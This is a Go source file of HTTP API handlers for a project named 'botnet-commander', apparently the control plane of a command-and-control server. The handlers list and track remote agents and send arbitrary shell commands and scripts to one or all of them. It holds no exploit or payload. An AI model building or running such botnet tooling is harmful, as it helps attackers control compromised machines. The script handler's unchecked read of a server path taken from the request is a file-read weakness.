package api

import (
	"net/http"
	"os"

	"github.com/go-chi/chi/v5"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/dispatch"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

// AgentHandler groups the agent-facing control-plane handlers.
type AgentHandler struct {
	store    *store.Gateway
	registry *registry.Manager
	sched    *dispatch.Scheduler
	metrics  *Metrics
	logger   *zap.Logger
}

// NewAgentHandler creates an AgentHandler.
func NewAgentHandler(gw *store.Gateway, reg *registry.Manager, sched *dispatch.Scheduler, metrics *Metrics, logger *zap.Logger) *AgentHandler {
	return &AgentHandler{store: gw, registry: reg, sched: sched, metrics: metrics, logger: logger.Named("agent_handler")}
}

type agentResponse struct {
	ID       string `json:"id"`
	Hostname string `json:"hostname"`
	Addr     string `json:"addr"`
	OS       string `json:"os"`
	Status   string `json:"status"`
}

func (h *AgentHandler) status(id string) string {
	if h.registry.IsLive(id) {
		return "online"
	}
	return "offline"
}

// filterByStatus keeps only the agents whose live/offline status matches
// the requested filter. An empty status filter keeps everything.
func (h *AgentHandler) filterByStatus(agents []store.Agent, status string) []store.Agent {
	if status == "" {
		return agents
	}
	kept := agents[:0]
	for _, a := range agents {
		if h.status(a.ID) == status {
			kept = append(kept, a)
		}
	}
	return kept
}

// Count handles GET /agents/count?status=&os=.
func (h *AgentHandler) Count(w http.ResponseWriter, r *http.Request) {
	status := r.URL.Query().Get("status")
	osFilter := r.URL.Query().Get("os")
	if !validStatus(status) {
		ErrBadRequest(w, "invalid status, must be one of: online, offline")
		return
	}
	if !validOS(osFilter) {
		ErrBadRequest(w, "invalid os, must be one of: Windows, Linux, Darwin")
		return
	}

	agents, err := h.store.ListAgents(r.Context(), osFilter, "*")
	if err != nil {
		h.logger.Error("count: list agents failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	agents = h.filterByStatus(agents, status)

	Ok(w, len(agents))
}

// List handles GET /agents/{entity}/list?status=&os=.
func (h *AgentHandler) List(w http.ResponseWriter, r *http.Request) {
	entity := chi.URLParam(r, "entity")
	status := r.URL.Query().Get("status")
	osFilter := r.URL.Query().Get("os")

	if !validEntity(entity) {
		ErrBadRequest(w, "invalid entity, must be '*' or a literal agent id")
		return
	}
	if !validStatus(status) {
		ErrBadRequest(w, "invalid status, must be one of: online, offline")
		return
	}
	if !validOS(osFilter) {
		ErrBadRequest(w, "invalid os, must be one of: Windows, Linux, Darwin")
		return
	}

	agents, err := h.store.ListAgents(r.Context(), osFilter, entity)
	if err != nil {
		h.logger.Error("list: list agents failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	agents = h.filterByStatus(agents, status)

	items := make([]agentResponse, len(agents))
	for i, a := range agents {
		items[i] = agentResponse{ID: a.ID, Hostname: a.Hostname, Addr: a.Address, OS: a.OS, Status: h.status(a.ID)}
	}
	Ok(w, items)
}

type eventResponse struct {
	CmdID       int64   `json:"cmd_id"`
	Time        string  `json:"time"`
	AgentID     string  `json:"agent_id"`
	Event       string  `json:"event"`
	EventDetail string  `json:"event_detail"`
	Response    *string `json:"response"`
	ExitCode    *string `json:"exit_code"`
}

func eventToResponse(e store.CommandEvent) eventResponse {
	return eventResponse{
		CmdID:       e.Count,
		Time:        e.Time.UTC().Format("2006-01-02T15:04:05Z07:00"),
		AgentID:     e.AgentID,
		Event:       e.Event,
		EventDetail: e.EventDetail,
		Response:    e.Response,
		ExitCode:    e.ExitCode,
	}
}

// History handles GET /agents/{entity}/history?status=&os=.
func (h *AgentHandler) History(w http.ResponseWriter, r *http.Request) {
	entity := chi.URLParam(r, "entity")
	status := r.URL.Query().Get("status")
	osFilter := r.URL.Query().Get("os")

	if !validEntity(entity) {
		ErrBadRequest(w, "invalid entity, must be '*' or a literal agent id")
		return
	}
	if !validStatus(status) {
		ErrBadRequest(w, "invalid status, must be one of: online, offline")
		return
	}
	if !validOS(osFilter) {
		ErrBadRequest(w, "invalid os, must be one of: Windows, Linux, Darwin")
		return
	}

	agents, err := h.store.ListAgents(r.Context(), osFilter, entity)
	if err != nil {
		h.logger.Error("history: list agents failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	agents = h.filterByStatus(agents, status)

	ids := make([]string, len(agents))
	for i, a := range agents {
		ids[i] = a.ID
	}

	events, err := h.store.AgentsHistory(r.Context(), ids, false, "")
	if err != nil {
		h.logger.Error("history: fetch failed", zap.Error(err))
		ErrInternal(w)
		return
	}

	items := make([]eventResponse, len(events))
	for i, e := range events {
		items[i] = eventToResponse(e)
	}
	Ok(w, items)
}

type targetResultResponse struct {
	ID     string `json:"id"`
	Result string `json:"result"`
}

func (h *AgentHandler) toResultResponses(results []dispatch.TargetResult) []targetResultResponse {
	out := make([]targetResultResponse, len(results))
	for i, r := range results {
		if r.Err != nil {
			out[i] = targetResultResponse{ID: r.AgentID, Result: "failed: " + r.Err.Error()}
			h.metrics.RecordDispatch(false)
		} else {
			out[i] = targetResultResponse{ID: r.AgentID, Result: "success"}
			h.metrics.RecordDispatch(true)
		}
	}
	return out
}

type cmdRequest struct {
	Cmd string `json:"cmd"`
}

// Cmd handles POST /agents/{entity}/cmd?os=.
func (h *AgentHandler) Cmd(w http.ResponseWriter, r *http.Request) {
	entity := chi.URLParam(r, "entity")
	osFilter := r.URL.Query().Get("os")

	if !validEntity(entity) {
		ErrBadRequest(w, "invalid entity, must be '*' or a literal agent id")
		return
	}
	if !validOS(osFilter) {
		ErrBadRequest(w, "invalid os, must be one of: Windows, Linux, Darwin")
		return
	}

	var req cmdRequest
	if !decodeJSON(w, r, &req) {
		return
	}
	if req.Cmd == "" {
		ErrBadRequest(w, "cmd is required")
		return
	}

	results, err := h.sched.ExeCommand(r.Context(), entity, osFilter, req.Cmd)
	if err != nil {
		h.logger.Error("cmd: dispatch failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	Ok(w, h.toResultResponses(results))
}

type scriptRequest struct {
	ScriptPath string `json:"script_path"`
	ScriptType string `json:"script_type"`
}

// Script handles POST /agents/{entity}/script?os=.
func (h *AgentHandler) Script(w http.ResponseWriter, r *http.Request) {
	entity := chi.URLParam(r, "entity")
	osFilter := r.URL.Query().Get("os")

	if !validEntity(entity) {
		ErrBadRequest(w, "invalid entity, must be '*' or a literal agent id")
		return
	}
	if !validOS(osFilter) {
		ErrBadRequest(w, "invalid os, must be one of: Windows, Linux, Darwin")
		return
	}

	var req scriptRequest
	if !decodeJSON(w, r, &req) {
		return
	}
	if !validScriptType(req.ScriptType) {
		ErrBadRequest(w, "invalid script_type, must be one of: sh, powershell, python")
		return
	}

	source, err := os.ReadFile(req.ScriptPath)
	if err != nil {
		ErrBadRequest(w, "script_path does not exist or is not readable: "+req.ScriptPath)
		return
	}

	results, err := h.sched.ExeScript(r.Context(), entity, osFilter, req.ScriptPath, req.ScriptType, string(source))
	if err != nil {
		h.logger.Error("script: dispatch failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	Ok(w, h.toResultResponses(results))
}

// Delete handles DELETE /agents/{entity}/delete?os=.
func (h *AgentHandler) Delete(w http.ResponseWriter, r *http.Request) {
	entity := chi.URLParam(r, "entity")
	osFilter := r.URL.Query().Get("os")

	if !validEntity(entity) {
		ErrBadRequest(w, "invalid entity, must be '*' or a literal agent id")
		return
	}
	if !validOS(osFilter) {
		ErrBadRequest(w, "invalid os, must be one of: Windows, Linux, Darwin")
		return
	}

	ids, err := h.store.DeleteAgents(r.Context(), entity, osFilter)
	if err != nil {
		h.logger.Error("delete: failed", zap.Error(err))
		ErrInternal(w)
		return
	}
	Ok(w, ids)
}
